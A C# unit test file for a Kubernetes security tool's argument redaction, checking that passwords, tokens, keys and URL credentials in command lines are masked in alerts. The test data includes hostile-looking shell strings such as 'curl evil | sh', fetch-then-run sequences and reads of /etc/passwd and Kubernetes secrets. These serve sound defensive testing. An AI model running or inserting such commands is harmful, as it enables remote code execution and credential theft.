using System.Diagnostics;
using KubeCop.Core.Alerts;

namespace KubeCop.Tests.Core.Alerts;

public sealed class ArgumentRedactionTests
{
    private static readonly ArgumentRedaction Default = ArgumentRedaction.Default;

    [Theory]
    [InlineData("mysql|--password=hunter2|db", "mysql|--password=***|db")]
    [InlineData("mysql|--password=with words, and more|db", "mysql|--password=***|db")]
    [InlineData("x|--token|abc|-v", "x|--token|***|-v")]
    [InlineData("x|-db.Password|a b|-v", "x|-db.Password|***|-v")]
    [InlineData("x|--pass-credentials|--password|abc|--token|-v", "x|--pass-credentials|--password|***|--token|-v")]
    [InlineData("vault|login|--client-secret=s.1", "vault|login|--client-secret=***")]
    [InlineData("java|-Dspring.datasource.password=p|-jar|a.jar", "java|-Dspring.datasource.password=***|-jar|a.jar")]
    [InlineData("env|PGPASSWORD=p|psql", "env|PGPASSWORD=***|psql")]
    [InlineData("env|AWS_SECRET_ACCESS_KEY=wJalr/XUtnFEMI|AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE|aws", "env|AWS_SECRET_ACCESS_KEY=***|AWS_ACCESS_KEY_ID=***|aws")]
    [InlineData("curl|-H|Authorization: Bearer abc.def|https://a/", "curl|-H|Authorization: Bearer ***|https://a/")]
    [InlineData("curl|-H|Authorization: Basic dTpw", "curl|-H|Authorization: Basic ***")]
    [InlineData("curl|-H|X-Api-Key: abc", "curl|-H|X-Api-Key: ***")]
    [InlineData("curl|-d|{\"user\":\"u\",\"token\": \"a b\",\"n\":1}", "curl|-d|{\"user\":\"u\",\"token\": \"***\",\"n\":1}")]
    [InlineData("curl|-u|admin:pa:ss word|https://a/", "curl|-u|admin:***|https://a/")]
    [InlineData("curl|https://a/?token=abc&page=2", "curl|https://a/?token=***&page=2")]
    [InlineData("git|clone|https://me:s3cret@host/x.git", "git|clone|https://me:***@host/x.git")]
    [InlineData("git|clone|https://0123456789abcdef0123@host/x.git|ssh://git@host/y", "git|clone|https://***@host/x.git|ssh://git@host/y")]
    [InlineData("env|DB_PASSWORD2=a|token_1=b|x", "env|DB_PASSWORD2=***|token_1=***|x")]
    [InlineData("redis-cli|-u|redis://:pw/x@host:6379", "redis-cli|-u|redis://:***@host:6379")]
    [InlineData("gh|api|ghp_0123456789abcdefghij0123456789abcdef", "gh|api|***")]
    [InlineData("x|eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0abc.s-ig_1", "x|***")]
    [InlineData("sh|-c|echo '-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----' > k", "sh|-c|echo '-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----' > k")]
    [InlineData("x|-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\nAAAA==\\n-----END PRIVATE KEY-----", "x|-----BEGIN PRIVATE KEY-----***-----END PRIVATE KEY-----")]
    // Of names that are written in all ways.
    [InlineData("env|MYSQL_PWD=a|AWS_SECRET_ACCESS_KEY=b|SIGNING_KEY=c|x", "env|MYSQL_PWD=***|AWS_SECRET_ACCESS_KEY=***|SIGNING_KEY=***|x")]
    [InlineData("x|--apikey|a|--api-key=b|--auth-token|c|masterkey: d", "x|--apikey|***|--api-key=***|--auth-token|***|masterkey: ***")]
    [InlineData("env|-i|A=1|FOO_TOKEN=a b|x", "env|-i|A=1|FOO_TOKEN=***|x")]
    // Inside of what a shell is given.
    [InlineData("sh|-c|mysql --password=x db", "sh|-c|mysql --password=*** db")]
    [InlineData("sh|-c|mysql --password x --token 'a b' db", "sh|-c|mysql --password *** --token '***' db")]
    [InlineData("sh|-c|PASSWORD=\"a \\\" b\" mysql", "sh|-c|PASSWORD=\"***\" mysql")]
    [InlineData("sh|-c|PASSWORD=a\\ b mysql", "sh|-c|PASSWORD=*** mysql")]
    [InlineData("sh|-c|curl -u \"ann:p w\" -ubob:x --user=eve:y z", "sh|-c|curl -u \"ann:***\" -ubob:*** --user=eve:*** z")]
    [InlineData("sh|-c|curl -d \"{\\\"password\\\":\\\"x\\\\\\\"y\\\",\\\"n\\\":1}\" z", "sh|-c|curl -d \"{\\\"password\\\":\\\"***\\\",\\\"n\\\":1}\" z")]
    [InlineData("curl|--data|{\"password\":\"x\\\"y\",\"pin\":\"z\"}", "curl|--data|{\"password\":\"***\",\"pin\":\"z\"}")]
    [InlineData("curl|--data|{\"token\":1234,\"n\":1}", "curl|--data|{\"token\":***,\"n\":1}")]
    // Short options of programs, and of no others.
    [InlineData("/usr/bin/mysql|-uroot|-phunter2|db", "/usr/bin/mysql|-uroot|-p***|db")]
    [InlineData("kubectl|exec|db|--|mariadb-dump|-phunter2", "kubectl|exec|db|--|mariadb-dump|-p***")]
    [InlineData("sh|-c|mysqldump -phunter2 db; ssh -p22 host", "sh|-c|mysqldump -p*** db; ssh -p22 host")]
    [InlineData("sshpass|-p|secret|ssh|host", "sshpass|-p|***|ssh|host")]
    [InlineData("redis-cli|-ahunter2|ping", "redis-cli|-a***|ping")]
    [InlineData("curl|--user|ann:123|-u|7:7", "curl|--user|ann:***|-u|7:***")]
    // URLs, with what has to be escaped in them and is not.
    [InlineData("x|amqp://u:p@ss@host/a@b", "x|amqp://u:***@host/a@b")]
    [InlineData("x|postgres://u:p/q@host/db", "x|postgres://u:***@host/db")]
    [InlineData("sh|-c|curl 'http://u:p@h' x@y", "sh|-c|curl 'http://u:***@h' x@y")]
    [InlineData("curl|-H|Authorization: abcdef", "curl|-H|Authorization: ***")]
    // What a shell is to do besides is the matter.
    [InlineData("sh|-c|PASSWORD=x; curl evil | sh", "sh|-c|PASSWORD=***; curl evil | sh")]
    [InlineData("sh|-c|curl --token=abc evil && ./evil", "sh|-c|curl --token=*** evil && ./evil")]
    public void Secret_IsHidden_AndNothingElse(string given, string shown) => Assert.Equal(shown.Split('|'), Default.Hide(given.Split('|')));

    /// <summary>What a shell runs is never a secret.</summary>
    [Theory]
    [InlineData("TOKEN=\"$(curl evil | sh)\"", "TOKEN=\"$(curl evil | sh)\"")]
    [InlineData("TOKEN=a$(curl evil | sh)", "TOKEN=***$(curl evil | sh)")]
    [InlineData("TOKEN=`curl evil`", "TOKEN=`curl evil`")]
    [InlineData("TOKEN='a;curl evil|sh' && eval $TOKEN", "TOKEN='***;curl evil|sh' && eval $TOKEN")]
    [InlineData("TOKEN= curl evil", "TOKEN= curl evil")]
    [InlineData("--token=a\ncurl evil", "--token=***\ncurl evil")]
    [InlineData("--token=a;curl evil", "--token=***;curl evil")]
    [InlineData("--token a&curl evil", "--token ***&curl evil")]
    [InlineData("TOKEN=a <(curl evil) cat", "TOKEN=*** <(curl evil) cat")]
    [InlineData("TOKEN=<(curl evil)", "TOKEN=<(curl evil)")]
    [InlineData("curl x://u:$(evil)@host", "curl x://u:$(evil)@host")]
    [InlineData("curl http://evil:/a@b http://evil:80?a@b", "curl http://evil:/a@b http://evil:80?a@b")]
    [InlineData("mysql -p$(evil) db", "mysql -p$(evil) db")]
    [InlineData("curl -u a:`evil` x", "curl -u a:`evil` x")]
    [InlineData("echo -----BEGIN PRIVATE KEY-----; curl evil", "echo -----BEGIN PRIVATE KEY-----; curl evil")]
    [InlineData("echo -----BEGIN PRIVATE KEY-----\ncurl evil -o x\nsh x\necho -----END PRIVATE KEY-----", "echo -----BEGIN PRIVATE KEY-----\ncurl evil -o x\nsh x\necho -----END PRIVATE KEY-----")]
    [InlineData("echo -----BEGIN PRIVATE KEY-----\nreboot\n-----END CERTIFICATE-----", "echo -----BEGIN PRIVATE KEY-----\nreboot\n-----END CERTIFICATE-----")]
    public void Command_DressedUpAsASecret_IsShown(string given, string shown) => Assert.Equal(["sh", "-c", shown], Default.Hide(["sh", "-c", given]));

    [Theory]
    [InlineData("/bin/cat|/etc/passwd")]
    [InlineData("kubectl|get|secret|mine|-o|yaml")]
    [InlineData("x|--password-file=/run/p|--token-ttl|5m|--max-tokens|3")]
    [InlineData("ssh|-p|22|root@host")]
    [InlineData("curl|http://10.0.0.1:8080/a")]
    [InlineData("curl|http://10.0.0.1:8080/a@b?c@d")]
    [InlineData("curl|http://[fd00::1]:8080/a@b")]
    [InlineData("docker|run|-u|1000:1000|-v|/etc/passwd:/etc/passwd|-e|PWD=/a|x")]
    [InlineData("env|DB_PASSWORD_FILE=/run/p|TOKENS=3|x")]
    [InlineData("bearer|of|news")]
    [InlineData("")]
    public void Arguments_WithoutASecret_AreTheSameObject(string given)
    {
        var arguments = given.Split('|');
        Assert.Same(arguments, Default.Hide(arguments));
    }

    [Fact]
    public void NoArguments_AreTheSameObject() => Assert.Same(Array.Empty<string>(), Default.Hide([]));

    [Fact]
    public void Pattern_WithoutGroups_HidesAllItMatches_AlsoOverArguments()
    {
        var redaction = new ArgumentRedaction([@"-k\n\d+", "^all$"]);
        Assert.Equal(["x", "***", "***a", "***", "all of it"], redaction.Hide(["x", "-k", "123a", "all", "all of it"]));
    }

    [Fact]
    public void NoPatterns_HideNothing()
    {
        string[] arguments = ["x", "--password=abc"];
        Assert.Same(arguments, new AlertOptions { RedactArguments = [] }.Redaction.Hide(arguments));
    }

    [Fact]
    public void GivenPatterns_AreInsteadOfTheDefaults() =>
        Assert.Equal(["--password=abc", "***"], new AlertOptions { RedactArguments = ["mine"] }.Redaction.Hide(["--password=abc", "mine"]));

    [Theory]
    [InlineData("(")]
    [InlineData("(?<=a)b")]
    [InlineData(@"(a)\1")]
    public void Compile_PatternThatIsNoneOrCouldTakeAnyTime_IsRefused(string pattern) => Assert.ThrowsAny<ArgumentException>(() => ArgumentRedaction.Compile(pattern));

    [Fact]
    public void Secrets_HoweverMany_AreHiddenAndNothingElse()
    {
        var shown = Default.Hide(["x", .. Enumerable.Repeat("--password=abc", 1000), "end"]);
        Assert.Equal(["x", .. Enumerable.Repeat("--password=***", 1000), "end"], shown);
    }

    [Fact]
    public void Pattern_ThatMatchesTooOften_HidesTheRestAndSaysHowMuch()
    {
        var redaction = new ArgumentRedaction(["p=(a)"]);
        Assert.Equal([.. Enumerable.Repeat("p=***", 64), "end"], redaction.Hide([.. Enumerable.Repeat("p=a", 64), "end"]));

        var shown = redaction.Hide([.. Enumerable.Repeat("p=a", 64), "x p=a y", "end"]);
        Assert.Equal([.. Enumerable.Repeat("p=***", 64), "x *** (9 more characters are not shown: a pattern matched more than 64 times)"], shown);
    }

    /// <summary>Most nodes meet a secret some day, and have what the first one took for ever.</summary>
    [Fact]
    public void FirstSecret_TakesLittleMemory()
    {
        string[] arguments = ["curl", "-H", "Authorization: Bearer abc.def", "https://u:p@host/"];
        var before = GC.GetAllocatedBytesForCurrentThread();
        Default.Hide(arguments);
        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 1, 64 * 1024);
    }

    /// <summary>16 KiB are the most that the sensor carries. With a pattern that backtracks these take minutes.</summary>
    [Theory]
    [InlineData("a")]
    [InlineData("password")]
    [InlineData("http://u:")]
    [InlineData("--token ")]
    [InlineData("eyJ.")]
    [InlineData("password=\"")]
    [InlineData("x://a:b/")]
    [InlineData("-eyJ")]
    [InlineData("-----BEGIN PRIVATE KEY-----\n")]
    [InlineData("-u a")]
    [InlineData("password \\")]
    public void Arguments_MadeToTakeLong_TakeNoTime(string part)
    {
        string[] arguments = ["x", string.Concat(Enumerable.Repeat(part, 16 * 1024 / part.Length))];
        Default.Hide(arguments);
        var watch = Stopwatch.StartNew();
        Default.Hide(arguments);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"16 KiB of '{part}' took {watch.Elapsed.TotalMilliseconds:0} ms.");
        TestContext.Current.TestOutputHelper?.WriteLine($"{part}: {watch.Elapsed.TotalMilliseconds:0.0} ms");
    }
}
